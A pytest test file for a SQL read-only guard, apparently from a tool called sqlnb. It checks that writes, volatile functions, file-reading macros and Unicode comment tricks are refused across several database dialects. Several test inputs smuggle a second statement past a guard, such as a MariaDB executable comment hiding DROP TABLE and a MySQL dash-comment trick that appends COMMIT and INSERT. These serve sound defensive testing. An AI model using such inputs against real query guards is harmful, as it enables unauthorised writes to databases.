    ("snowflake", "SELECT IFF(a > 0, 'pos', 'neg'), DATEADD(day, 1, d) FROM t"),
    ("snowflake", 'SELECT * FROM "MixedCase"."Table" LIMIT 10'),
    ("snowflake", "SELECT 'it\\'s' AS s"),
    ("snowflake", "SELECT 1 // a comment about DELETE"),
    ("snowflake", "SELECT a FROM t MINUS SELECT a FROM u"),
    ("snowflake", "SELECT * FROM t WHERE ts > :start"),
    ("snowflake", "WITH x AS (SELECT 1 AS a) SELECT a FROM x UNION ALL SELECT 2"),
    ("snowflake", "SELECT * FROM t SAMPLE (10)"),
    ("snowflake", "SELECT * FROM IDENTIFIER($table_name) LIMIT 10"),
    # ---------------------------------------------------------------- redshift
    ("redshift", "SELECT TOP 10 * FROM t"),
    ("redshift", "SELECT LISTAGG(a, ',') WITHIN GROUP (ORDER BY a) FROM t"),
    ("redshift", "SELECT DATEADD(day, 1, GETDATE())"),
    ("redshift", "SELECT a::varchar FROM t WHERE b = :b"),
    ("redshift", "SELECT * FROM svv_table_info"),
    ("redshift", "SELECT a, SUM(b) OVER (PARTITION BY a ORDER BY c ROWS UNBOUNDED PRECEDING) FROM t"),
    ("redshift", "WITH x AS (SELECT 1 AS a) SELECT a FROM x UNION SELECT 2"),
    ("redshift", "SELECT 'plain text; DROP TABLE t' AS s -- trailing comment"),
    ("redshift", "SELECT NVL(a, 0), DECODE(b, 1, 'one', 'other') FROM t LIMIT 5"),
    ("redshift", "SELECT * FROM t QUALIFY ROW_NUMBER() OVER (ORDER BY a) = 1"),
]


def _id(dialect: str, sql: str, i: int) -> str:
    return f"{dialect}-{i}"


@pytest.mark.parametrize(
    "dialect,sql,fragment",
    [pytest.param(d, s, f, id=_id(d, s, i)) for i, (d, s, f) in enumerate(REFUSED)],
)
def test_refused(dialect, sql, fragment):
    verdict = check_read_only(sql, dialect)
    assert isinstance(verdict, Verdict)
    assert verdict.read_only is False, f"accepted a write/escape: {sql!r}"
    assert not verdict and not is_read_only(sql, dialect)
    reason = verdict.reason
    assert reason and reason.strip() and " " in reason.strip(), reason  # words, not a code
    if fragment:
        assert fragment.lower() in reason.lower(), reason


@pytest.mark.parametrize(
    "dialect,sql",
    [pytest.param(d, s, id=_id(d, s, i)) for i, (d, s) in enumerate(ACCEPTED)],
)
def test_accepted(dialect, sql):
    verdict = check_read_only(sql, dialect)
    assert verdict.read_only is True, f"refused a read: {verdict.reason}"
    assert verdict and is_read_only(sql, dialect)
    assert verdict.statement_type


def test_the_table_covers_every_dialect():
    refused = Counter(d for d, _, _ in REFUSED)
    accepted = Counter(d for d, _ in ACCEPTED)
    assert set(refused) == set(DIALECTS) == set(accepted)
    assert all(refused[d] >= 15 for d in DIALECTS), refused
    assert all(accepted[d] >= 8 for d in DIALECTS), accepted
    assert len(REFUSED) >= 80


def test_reasons_name_what_was_refused():
    assert "DELETE" in check_read_only("DELETE FROM t", "postgres").reason
    assert "2 statements" in check_read_only("SELECT 1; SELECT 2", "sqlite").reason
    assert "INTO" in check_read_only("SELECT * INTO x FROM t", "postgres").reason
    assert "pg_sleep" in check_read_only("SELECT pg_sleep(1)", "postgres").reason
    verdict = check_read_only("DROP TABLE t", "duckdb")
    assert verdict.statement_type == "DROP"
    assert check_read_only("SELECT 1 UNION SELECT 2", "sqlite").statement_type == "UNION"


def test_dialect_aliases_are_understood():
    assert check_read_only("SELECT a::int FROM t", "postgresql").read_only
    assert not check_read_only("SELECT 1 /*! ; DROP TABLE t */", "mariadb").read_only
    assert check_read_only("SELECT 1", "sqlite3").read_only


# glob(pattern, text) is SQLite's GLOB match (a read) everywhere but DuckDB, where glob()
# lists files
_FUNCTION_CASES = [
    (d, name) for name in sorted(FORBIDDEN_FUNCTIONS) for d in DIALECTS if name != "glob" or d == "duckdb"
]


@pytest.mark.parametrize("dialect,name", _FUNCTION_CASES)
def test_every_forbidden_function_is_refused_wherever_it_is_called(dialect, name):
    for sql in (
        f"SELECT {name}('x', 1)",
        f"SELECT * FROM {name}('x')",
        f"SELECT a FROM t WHERE b = {name.upper()}('x')",
        f"WITH c AS (SELECT {name}('x') AS v) SELECT v FROM c",
    ):
        verdict = check_read_only(sql, dialect)
        assert not verdict.read_only, sql
        assert name in verdict.reason.lower() or "parse" in verdict.reason, verdict.reason


def test_glob_is_a_pattern_match_outside_duckdb():
    assert check_read_only("SELECT name FROM t WHERE glob('a*', name)", "sqlite").read_only
    assert not check_read_only("SELECT * FROM glob('/home/*')", "duckdb").read_only


# --------------------------------------------------------------------------- spider
# the Spider dev subset shipped with the repository (tests/data/spider-dev, CC BY-SA 4.0)
SPIDER = Path(
    os.environ.get(
        "SQLNB_SPIDER_QUESTIONS", Path(__file__).resolve().parent / "data" / "spider-dev" / "questions.json"
    )
)


def _spider_queries() -> list[str]:
    if not SPIDER.exists():  # fail loudly rather than skip
        return []
    return [q["query"] for q in json.loads(SPIDER.read_text())]


_SPIDER_QUERIES = _spider_queries()


def test_spider_gold_set_is_there():
    assert SPIDER.exists(), f"{SPIDER} is missing (set SQLNB_SPIDER_QUESTIONS)"
    assert len(_SPIDER_QUERIES) == 247


@pytest.mark.parametrize("index", range(len(_SPIDER_QUERIES)))
def test_spider_gold_queries_are_read_only(index):
    sql = _SPIDER_QUERIES[index]
    verdict = check_read_only(sql, "sqlite")
    assert verdict.read_only, f"{sql!r}: {verdict.reason}"


# ------------------------------------------------------- functions that change state
# Each was accepted as "a single read-only query" before the policy built from the
# engines' function metadata: (dialect, sql, the function the reason names, why).
STATE_CHANGING: list[tuple[str, str, str, str]] = [
    # runs the SQL text it is given
    ("postgres", "SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM docs')", "ts_stat", "volatile"),
    (
        "postgres",
        "SELECT brin_summarize_new_values('t_brin'::regclass)",
        "brin_summarize_new_values",
        "volatile",
    ),
    ("postgres", "SELECT gin_clean_pending_list('t_gin'::regclass)", "gin_clean_pending_list", "volatile"),
    (
        "postgres",
        "SELECT a FROM t WHERE a < (SELECT count(*) FROM ts_stat('SELECT v FROM u'))",
        "ts_stat",
        "volatile",
    ),
    ("redshift", "SELECT gin_clean_pending_list('t_gin'::regclass)", "gin_clean_pending_list", "volatile"),
    (
        "mysql",
        "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ a FROM t",
        "MAX_EXECUTION_TIME",
        "statement timeout",
    ),
    ("mysql", "SELECT /*+ SET_VAR(max_execution_time = 0) */ a FROM t", "SET_VAR", "session settings"),
    (
        "mysql",
        "SELECT a FROM t WHERE a IN (SELECT /*+ SET_VAR(sql_mode = '') */ b FROM u)",
        "SET_VAR",
        "optimizer hint",
    ),
    ("mysql", "SELECT LAST_INSERT_ID(42)", "LAST_INSERT_ID", "sets the value"),
    ("mysql", "SELECT a FROM t WHERE LAST_INSERT_ID(a) > 0", "LAST_INSERT_ID", "sets the value"),
    ("duckdb", "SELECT * FROM enable_logging()", "enable_logging", "table function"),
    ("duckdb", "SELECT * FROM enable_logging(level = 'debug')", "enable_logging", "table function"),
    ("duckdb", "SELECT * FROM checkpoint()", "checkpoint", "table function"),
    ("duckdb", "SELECT * FROM t, checkpoint()", "checkpoint", "table function"),
    ("duckdb", "SELECT * FROM enable_profiling()", "enable_profiling", "table function"),
    ("duckdb", "SELECT write_log('x')", "write_log", "side effects"),
    ("duckdb", "SELECT sleep_ms(60000)", "sleep_ms", "side effects"),
    ("snowflake", "SELECT GET_PRESIGNED_URL(@stage, 'data.csv', 604800)", "get_presigned_url", "url"),
    ("snowflake", "SELECT BUILD_SCOPED_FILE_URL(@stage, 'data.csv')", "build_scoped_file_url", "url"),
]


@pytest.mark.parametrize(
    "dialect,sql,name,why",
    STATE_CHANGING,
    ids=[f"{d}-{n}-{i}" for i, (d, _, n, _) in enumerate(STATE_CHANGING)],
)
def test_state_changing_functions_are_refused_saying_which_and_why(dialect, sql, name, why):
    verdict = check_read_only(sql, dialect)
    assert not verdict.read_only, sql
    assert name.lower() in verdict.reason.lower(), verdict.reason
    assert why.lower() in verdict.reason.lower(), verdict.reason


# Harmless relatives of the refused ones: they stay accepted.
HARMLESS_RELATIVES: list[tuple[str, str]] = [
    ("postgres", "SELECT random(), clock_timestamp(), timeofday(), gen_random_uuid(), now()"),
    ("postgres", "SELECT relname, pg_total_relation_size(oid) FROM pg_class ORDER BY 2 DESC"),
    ("postgres", "SELECT * FROM t TABLESAMPLE SYSTEM (10)"),
    ("postgres", "SELECT * FROM t TABLESAMPLE BERNOULLI (5) REPEATABLE (1)"),
    ("postgres", "SELECT to_tsvector('english', body) @@ to_tsquery('cat') FROM docs"),
    ("redshift", "SELECT RANDOM(), GETDATE() FROM t"),
    ("mysql", "SELECT LAST_INSERT_ID()"),
    ("mysql", "SELECT a FROM t /* + not a hint */"),
    ("duckdb", "SELECT random(), uuid(), gen_random_uuid(), now(), today()"),
    ("duckdb", "SELECT histogram(a) FROM t"),  # the aggregate (the table macro is refused)
    ("duckdb", "SELECT * FROM generate_series(1, 3) g, range(2) r, unnest([1, 2]) u"),
    ("duckdb", "SELECT * FROM duckdb_tables() JOIN duckdb_columns() USING (table_name)"),
    ("snowflake", "SELECT UUID_STRING(), RANDOM() FROM t"),
]


@pytest.mark.parametrize("dialect,sql", HARMLESS_RELATIVES)
def test_harmless_relatives_stay_accepted(dialect, sql):
    verdict = check_read_only(sql, dialect)
    assert verdict.read_only, verdict.reason


def test_duckdb_table_macros_are_refused_where_called_as_a_table():
    verdict = check_read_only("SELECT * FROM histogram(t, a)", "duckdb")
    assert not verdict.read_only and "histogram" in verdict.reason
    verdict = check_read_only("SELECT histogram(a) FROM t, LATERAL histogram(t, a)", "duckdb")
    assert not verdict.read_only and "histogram" in verdict.reason


def test_a_name_written_before_a_paren_counts_even_where_sqlglot_renames_it():
    # comments between the name and "(" (PostgreSQL reads a call), a quoted name, a
    # schema-qualified one
    for sql in (
        "SELECT ts_stat /* x */ ('SELECT 1')",
        "SELECT \"ts_stat\"('SELECT 1')",
        "SELECT pg_catalog.ts_stat('SELECT 1')",
        "SELECT TS_STAT('SELECT 1')",
    ):
        verdict = check_read_only(sql, "postgres")
        assert not verdict.read_only and "ts_stat" in verdict.reason, (sql, verdict.reason)


def test_a_policy_given_replaces_the_snapshot():
    from sqlnb.sql.functions import FunctionPolicy

    policy = FunctionPolicy("PostgreSQL", {"my_writer": "is VOLATILE in this database"}, "test")
    verdict = check_read_only("SELECT my_writer(a) FROM t", "postgres", policy)
    assert not verdict.read_only and "my_writer" in verdict.reason and "VOLATILE" in verdict.reason
    assert check_read_only("SELECT my_writer(a) FROM t", "postgres").read_only  # unknown to the snapshot
    # with this policy, ts_stat is not known volatile, but the snapshot's no longer applies
    assert check_read_only("SELECT count(*) FROM ts_stat('x')", "postgres", policy).read_only
    assert is_read_only("SELECT count(a) FROM t", "postgres", policy)


def test_without_a_connection_duckdb_functions_newer_than_the_snapshot_are_refused(tmp_path, monkeypatch):
    # a snapshot from an older DuckDB that knew none of these: the installed release's
    # own metadata still refuses them (a newer DuckDB's new functions likewise)
    import sqlnb.sql.functions as functions

    (tmp_path / "duckdb.txt").write_text("# engine: DuckDB 0.0.1\nsomething_old\tduckdb:table\n")
    monkeypatch.setattr(functions, "HERE", tmp_path)
    functions.snapshot_policy.cache_clear()
    try:
        policy = functions.snapshot_policy("duckdb")
        assert "0.0.1" in policy.source and "the installed DuckDB v" in policy.source
        for sql, name in (
            ("SELECT nextval('s')", "nextval"),
            ("SELECT * FROM checkpoint()", "checkpoint"),
            ("SELECT * FROM read_csv('x.csv')", "read_csv"),
            ("SELECT * FROM something_old()", "something_old"),
        ):
            verdict = check_read_only(sql, "duckdb")
            assert not verdict.read_only and name in verdict.reason, (sql, verdict.reason)
        assert check_read_only("SELECT random(), now()", "duckdb").read_only  # the allowlist stands
    finally:
        functions.snapshot_policy.cache_clear()


def test_a_failed_live_lookup_refuses_what_it_could_not_check():
    from sqlnb.sql.functions import FunctionPolicy

    def broken(names):
        raise RuntimeError("the connection is gone")

    policy = FunctionPolicy("PostgreSQL", {}, "test", lookup=broken)
    verdict = check_read_only("SELECT my_fn(a) FROM t", "postgres", policy)
    assert not verdict.read_only and "my_fn" in verdict.reason and "could not be checked" in verdict.reason
    # any call could be a user's overload (count(t) of their own): none can be checked
    assert not check_read_only("SELECT count(a) FROM t", "postgres", policy).read_only
    assert check_read_only("SELECT t.a, b FROM t WHERE a > 1", "postgres", policy).read_only


# ---------------------------------------------- the engines' own metadata, read live
# These read PostgreSQL 15 (127.0.0.1:5432) and the installed DuckDB with their own SQL
# (not sqlnb's), so a function a new engine version adds is covered by the test too.

# Pseudo-types that make a PostgreSQL function impossible to call from a query.
_PG_CALLABLE = """
    prorettype NOT IN ('trigger'::regtype, 'event_trigger'::regtype,
                       'language_handler'::regtype, 'fdw_handler'::regtype,
                       'index_am_handler'::regtype, 'tsm_handler'::regtype,
                       'table_am_handler'::regtype)
    AND NOT ('internal'::regtype = ANY (proargtypes::oid[]))"""

# How to call each allowlisted function; the test runs them in a read-only transaction.
# Adding a name to the allowlist means adding its call here (and a reason there).
_PG_ALLOWED_CALLS = {
    "random": "random()",
    "gen_random_uuid": "gen_random_uuid()",
    "clock_timestamp": "clock_timestamp()",
    "timeofday": "timeofday()",
    "pg_relation_size": "pg_relation_size('t')",
    "pg_table_size": "pg_table_size('t')",
    "pg_indexes_size": "pg_indexes_size('t')",
    "pg_total_relation_size": "pg_total_relation_size('t')",
    "pg_database_size": "pg_database_size(current_database())",
    "pg_tablespace_size": "pg_tablespace_size('pg_default')",
}


@pytest.fixture(scope="module")
def pg_db(tmp_path_factory):
    from tests.engines import PostgresEnv

    env = PostgresEnv(tmp_path_factory.mktemp("guard-pg"))
    env.create()
    env.admin(["CREATE TABLE t (a int PRIMARY KEY, b text)", "INSERT INTO t VALUES (1, 'x')"])
    yield env
    env.drop()


@pytest.fixture
def pg_readonly(pg_db):
    import sqlnb.adapters as adapters

    conn = adapters.connect(pg_db.url(), readonly=True)
    yield conn
    conn.close()


def test_every_volatile_postgres_function_is_refused_unless_allowlisted(pg_db, pg_readonly):
    from sqlnb.sql.functions import POSTGRES_ALLOWED

    volatile = sorted(
        {
            r[0]
            for r in pg_db.admin_query(
                f"SELECT proname FROM pg_proc WHERE provolatile = 'v' AND {_PG_CALLABLE}"
            )
        }
    )
    assert len(volatile) > 150  # PostgreSQL 15 has about 190
    live = pg_readonly.guard_functions()
    assert live is not None and "pg_proc" in live.source
    missed = []
    for name in volatile:
        if name in POSTGRES_ALLOWED:
            continue
        for policy in (live, None):  # the live metadata, and the snapshot shipped with sqlnb
            for sql in (
                f"SELECT {name}(1)",
                f"SELECT * FROM {name}()",
                f"SELECT a FROM t WHERE a = (SELECT {name}('x', 2))",
            ):
                verdict = check_read_only(sql, "postgres", policy)
                if verdict.read_only or name.lower() not in verdict.reason.lower():
                    missed.append((sql, "live" if policy else "snapshot", verdict.reason))
    assert not missed, (
        f"{len(missed)} calls of volatile functions not refused (a stale "
        "snapshot? run python -m sqlnb.sql.functions.generate): {missed[:10]}"
    )
    # ... and through the connection, with the engine's word in the reason
    with pytest.raises(errors.ReadOnlyViolation) as info:
        pg_readonly.execute("SELECT * FROM ts_stat('SELECT to_tsvector(b) FROM t')")
    assert "ts_stat" in str(info.value) and "VOLATILE" in str(info.value)


def test_stable_and_immutable_postgres_functions_are_not_refused_by_the_policy(pg_readonly):
    rows = pg_readonly.execute(
        "SELECT DISTINCT proname FROM pg_proc WHERE proname NOT IN "
        "(SELECT proname FROM pg_proc WHERE provolatile = 'v')"
    ).rows
    names = sorted(r[0] for r in rows)
    assert len(names) > 1500
    live = pg_readonly.guard_functions()
    over = [n for n in names if "VOLATILE" in check_read_only(f"SELECT {n}(1)", "postgres", live).reason]
    assert not over, over[:20]


def test_the_postgres_allowlist_is_small_volatile_and_harmless(pg_db):
    from sqlnb.sql.functions import POSTGRES_ALLOWED

    assert len(POSTGRES_ALLOWED) <= 12
    assert set(POSTGRES_ALLOWED) == set(_PG_ALLOWED_CALLS)
    assert not set(POSTGRES_ALLOWED) & FORBIDDEN_FUNCTIONS
    names = ", ".join(f"'{n}'" for n in POSTGRES_ALLOWED)
    volatility = dict(
        pg_db.admin_query(
            "SELECT proname, string_agg(DISTINCT provolatile::text, '') FROM pg_proc "
            f"WHERE proname = ANY(ARRAY[{names}]) GROUP BY proname"
        )
    )
    assert volatility == dict.fromkeys(POSTGRES_ALLOWED, "v")  # each really is volatile
    # ... and only reads: each runs in a read-only transaction, and the guard accepts it
    import psycopg

    with psycopg.connect(host="127.0.0.1", port=5432, user="postgres", dbname=pg_db.db) as con:
        con.execute("BEGIN READ ONLY")
        for name, call in _PG_ALLOWED_CALLS.items():
            con.execute(f"SELECT {call}").fetchall()
            assert check_read_only(f"SELECT {call}", "postgres").read_only, name
        con.execute("ROLLBACK")


def test_a_user_defined_volatile_function_is_refused_on_a_read_only_connection(pg_db):
    import sqlnb.adapters as adapters

    pg_db.admin(
        [
            "CREATE TABLE audit (n int)",
            "CREATE FUNCTION bump() RETURNS int VOLATILE LANGUAGE plpgsql AS "
            "$$ BEGIN INSERT INTO audit VALUES (1); RETURN 1; END $$",
            "CREATE FUNCTION peek() RETURNS bigint STABLE LANGUAGE sql AS $$ SELECT count(*) FROM audit $$",
            # takes a row of t: PostgreSQL also calls it as t.stamp (attribute notation)
            "CREATE FUNCTION stamp(r t) RETURNS int VOLATILE LANGUAGE sql AS "
            "$$ INSERT INTO audit VALUES (r.a) RETURNING 3 $$",
        ]
    )
    try:
        conn = adapters.connect(pg_db.url(), readonly=True)
        try:
            with pytest.raises(errors.ReadOnlyViolation) as info:
                conn.execute("SELECT bump()")
            assert "bump" in str(info.value) and "VOLATILE" in str(info.value)
            assert "public.bump" in str(info.value)  # the user's function, by its schema
            with pytest.raises(errors.ReadOnlyViolation):
                conn.execute("SELECT a FROM t WHERE a = bump()")
            assert conn.execute("SELECT peek()").rows == [(0,)]  # STABLE: it only reads
            for sql in (
                "SELECT t.stamp FROM t",
                "SELECT (t).stamp FROM t",
                "SELECT x.b FROM t AS x WHERE x.stamp > 0",
            ):
                with pytest.raises(errors.ReadOnlyViolation) as info:
                    conn.execute(sql)
                assert "stamp" in str(info.value) and "attribute notation" in str(info.value)
            assert conn.execute("SELECT t.a, t.b FROM t").rows == [(1, "x")]
            assert conn.execute("SELECT random() < 2").rows == [(True,)]
            # a function created (or replaced) after connecting is judged by what it is now
            pg_db.admin(
                [
                    "CREATE FUNCTION bump_later() RETURNS int LANGUAGE sql AS "
                    "$$ INSERT INTO audit VALUES (2) RETURNING 2 $$",
                    "CREATE OR REPLACE FUNCTION peek() RETURNS bigint VOLATILE "
                    "LANGUAGE sql AS $$ SELECT count(*) FROM audit $$",
                ]
            )
            for sql in ("SELECT bump_later()", "SELECT peek()"):
                with pytest.raises(errors.ReadOnlyViolation) as info:
                    conn.execute(sql)
                assert sql[7:-2] in str(info.value) and "VOLATILE" in str(info.value)
            # the allowlist is for the built-in random(): a user's random() that writes is
            # refused (by name: random() in this database too, until it is dropped)
            pg_db.admin(
                [
                    "CREATE FUNCTION public.random(n int) RETURNS int VOLATILE "
                    "LANGUAGE sql AS $$ INSERT INTO audit VALUES (n) RETURNING n $$"
                ]
            )
            with pytest.raises(errors.ReadOnlyViolation) as info:
                conn.execute("SELECT public.random(5)")
            assert "public.random" in str(info.value)
            with pytest.raises(errors.ReadOnlyViolation):
                conn.execute("SELECT random(5)")  # resolves to the user's overload
            # attribute notation, for a function created after connecting too
            pg_db.admin(
                [
                    "CREATE FUNCTION stamp_later(r t) RETURNS int VOLATILE LANGUAGE sql "
                    "AS $$ INSERT INTO audit VALUES (r.a) RETURNING 4 $$"
                ]
            )
            with pytest.raises(errors.ReadOnlyViolation) as info:
                conn.execute("SELECT t.stamp_later FROM t")
            assert "stamp_later" in str(info.value) and "attribute notation" in str(info.value)
            # names that cannot stand in a literal as they are: every function is read
            with pytest.raises(errors.SqlnbError) as info:
                conn.execute('SELECT "we\'ird"(1)')
            assert not isinstance(info.value, errors.ReadOnlyViolation)
        finally:
            conn.close()
        # a read-write connection running a statement as read-only (the agent's way)
        conn = adapters.connect(pg_db.url())
        try:
            with pytest.raises(errors.ReadOnlyViolation):
                conn.execute("SELECT bump()", readonly=True)
        finally:
            conn.close()
        assert pg_db.admin_query("SELECT count(*) FROM audit") == [(0,)]
    finally:
        pg_db.admin(
            [
                "DROP FUNCTION IF EXISTS bump(), bump_later(), peek(), stamp(t), "
                "stamp_later(t), public.random(int)",
                "DROP TABLE IF EXISTS audit",
            ]
        )


def test_every_volatile_or_side_effecting_duckdb_function_is_refused(tmp_path):
    import duckdb

    import sqlnb.adapters as adapters
    from sqlnb.sql.functions import DUCKDB_ALLOWED, DUCKDB_READ_ONLY_TABLE_FUNCTIONS

    raw = duckdb.connect(":memory:")
    try:
        scalars = {
            r[0]
            for r in raw.execute(
                "SELECT function_name FROM duckdb_functions() WHERE function_type IN "
                "('scalar', 'aggregate', 'window') AND (stability = 'VOLATILE' OR has_side_effects)"
            ).fetchall()
        }
        tables = {
            r[0]
            for r in raw.execute(
                "SELECT function_name FROM duckdb_functions() WHERE function_type = 'table'"
            ).fetchall()
        }
    finally:
        raw.close()
    assert {"nextval", "setval", "sleep_ms", "write_log"} <= scalars
    assert {"checkpoint", "enable_logging", "enable_profiling", "read_csv"} <= tables
    path = tmp_path / "g.duckdb"
    duckdb.connect(str(path)).close()
    conn = adapters.connect(f"duckdb:///{path}", readonly=True)
    try:
        live = conn.guard_functions()
        assert live is not None and "duckdb_functions" in live.source
        missed = []
        for policy in (live, None):
            for name in sorted(scalars - set(DUCKDB_ALLOWED)):
                verdict = check_read_only(f"SELECT {name}('x')", "duckdb", policy)
                if verdict.read_only or name not in verdict.reason:
                    missed.append((name, verdict.reason))
            for name in sorted(tables - DUCKDB_READ_ONLY_TABLE_FUNCTIONS):
                verdict = check_read_only(f"SELECT * FROM {name}('x')", "duckdb", policy)
                if verdict.read_only or name not in verdict.reason:
                    missed.append((name, verdict.reason))
        assert not missed, missed[:10]
    finally:
        conn.close()
    # the allowlists: small, and every entry is what the metadata says
    assert len(DUCKDB_ALLOWED) <= 12
    assert set(DUCKDB_ALLOWED) <= scalars  # each really is volatile
    assert tables >= DUCKDB_READ_ONLY_TABLE_FUNCTIONS
    assert not (set(DUCKDB_ALLOWED) | DUCKDB_READ_ONLY_TABLE_FUNCTIONS) & FORBIDDEN_FUNCTIONS


def test_the_duckdb_allowlists_only_read(tmp_path):
    """Each allowlisted function runs on a read-only database in a read-only transaction
    with external access off: what it does, it does without writing."""
    import duckdb

    from sqlnb.sql.functions import DUCKDB_ALLOWED, DUCKDB_READ_ONLY_TABLE_FUNCTIONS

    path = tmp_path / "ro.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE t (a INT)")
    con = duckdb.connect(
        str(path), read_only=True, config={"enable_external_access": False, "lock_configuration": True}
    )
    try:
        with pytest.raises(duckdb.InvalidInputException, match="boom"):
            con.execute("SELECT error('boom')").fetchall()  # raises what it is given
        con.execute("BEGIN TRANSACTION READ ONLY")
        for name in sorted(set(DUCKDB_ALLOWED) - {"error"}):
            con.execute(f"SELECT {name}()").fetchall()
        args = {
            "range": "3",
            "generate_series": "1, 3",
            "unnest": "[1, 2]",
            "repeat": "1, 2",
            "repeat_row": "1, num_rows = 2",
            "json_each": "'[1]'",
            "json_tree": "'[1]'",
            "pragma_table_info": "'t'",
            "pragma_show": "'t'",
            "pragma_storage_info": "'t'",
        }
        for name in sorted(DUCKDB_READ_ONLY_TABLE_FUNCTIONS):
            sql = f"SELECT * FROM {name}({args.get(name, '')}) LIMIT 1"
            con.execute(sql).fetchall()
            assert check_read_only(sql, "duckdb").read_only, sql
        con.execute("ROLLBACK")
    finally:
        con.close()


def test_a_duckdb_macro_calling_a_refused_function_is_refused(tmp_path):
    import sqlnb.adapters as adapters

    data = tmp_path / "secret.csv"
    data.write_text("a\n1\n")
    conn = adapters.connect("duckdb://")  # in memory, read-write
    try:
        # a user's macro is checked whole, like a query: this one reads a file
        conn.execute(f"CREATE MACRO leak() AS TABLE SELECT * FROM '{data}'")
        with pytest.raises(errors.ReadOnlyViolation) as info:
            conn.execute("SELECT * FROM leak()", readonly=True)
        assert "leak" in str(info.value) and "file" in str(info.value)
        conn.execute("CREATE SEQUENCE s")
        conn.execute("CREATE MACRO next_id() AS nextval('s')")
        conn.execute("CREATE MACRO twice(x) AS x * 2")
        with pytest.raises(errors.ReadOnlyViolation) as info:
            conn.execute("SELECT next_id()", readonly=True)
        assert "next_id" in str(info.value) and "nextval" in str(info.value)
        assert conn.execute("SELECT twice(21) AS v", readonly=True).rows == [(42,)]
        # a macro shadowing a built-in, created after the policy was read
        assert conn.execute("SELECT lower('A') AS v", readonly=True).rows == [("a",)]
        conn.execute("CREATE MACRO lower(x) AS nextval('s')")
        with pytest.raises(errors.ReadOnlyViolation) as info:
            conn.execute("SELECT lower('A')", readonly=True)
        assert "lower" in str(info.value) and "nextval" in str(info.value)
        assert conn.execute("SELECT x.v FROM (SELECT 1 AS v) x", readonly=True).rows == [(1,)]
    finally:
        conn.close()


# ---- characters engines read differently outside strings and quoted names ------------------

# Unicode whitespace and format characters that Python, sqlglot or one engine reads as a
# space where another engine reads a name character (PostgreSQL, DuckDB), or a comment's
# end or start (MySQL's "--" only before an ASCII space)
ODD_CHARACTERS = [
    "\u00a0",
    "\u0085",
    "\u1680",
    *(chr(c) for c in range(0x2000, 0x200B)),
    "\u2028",
    "\u2029",
    "\u202f",
    "\u205f",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u200e",
    "\u202e",
    "\x0b",
    "\x0c",
    "\x01",
    "\x1f",
    "\x7f",
    "\x9b",
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("ch", ODD_CHARACTERS, ids=[f"U+{ord(c):04X}" for c in ODD_CHARACTERS])
def test_odd_characters_outside_strings_are_refused(dialect, ch):
    for sql in (f"SELECT 1 --{ch}x", f"SELECT 1{ch}AS a", f"SELECT 1 /* a{ch}b */", f"SELECT 1 AS a{ch}"):
        verdict = check_read_only(sql, dialect)
        assert not verdict.read_only, (dialect, repr(sql))
        named = f"U+{ord(ch):04X}" in verdict.reason
        if dialect == "mysql" and "--" in sql and ord(ch) > 0x7F:  # the dashes refused first
            assert named or "'--' not followed by a space" in verdict.reason, verdict.reason
        else:
            assert named, verdict.reason


@pytest.mark.parametrize("dialect", DIALECTS)
def test_text_of_any_script_stays_accepted(dialect):
    for sql in (
        "SELECT 'a\u00a0b\u3000c\u200b' AS spaced",  # inside a string: data
        'SELECT 1 AS "caf\u00e9 \u00a0"',  # inside a quoted name
        "SELECT 1 AS x -- r\u00e9sum\u00e9, \u6570\u636e, \U0001f600",
        "SELECT 1 AS x /* \u00fcber \u00a7 \u2014 */",
    ):
        if '"' in sql and dialect == "mysql":
            sql = sql.replace('"', "`")
        assert check_read_only(sql, dialect).read_only, (dialect, sql)


def test_mysql_dashes_are_a_comment_only_before_an_ascii_space():
    for sql in (
        "SELECT 1 --\u00a0x FROM (SELECT 5 AS x) q; COMMIT; INSERT INTO t VALUES (666)",
        "SELECT 1 --\u3000x",
        "SELECT 1 --x",
    ):
        assert not check_read_only(sql, "mysql").read_only, repr(sql)
    for sql in ("SELECT 1 -- x", "SELECT 1 --\tx", "SELECT 1 --\nAS a", "SELECT 1 --"):
        assert check_read_only(sql, "mysql").read_only, repr(sql)
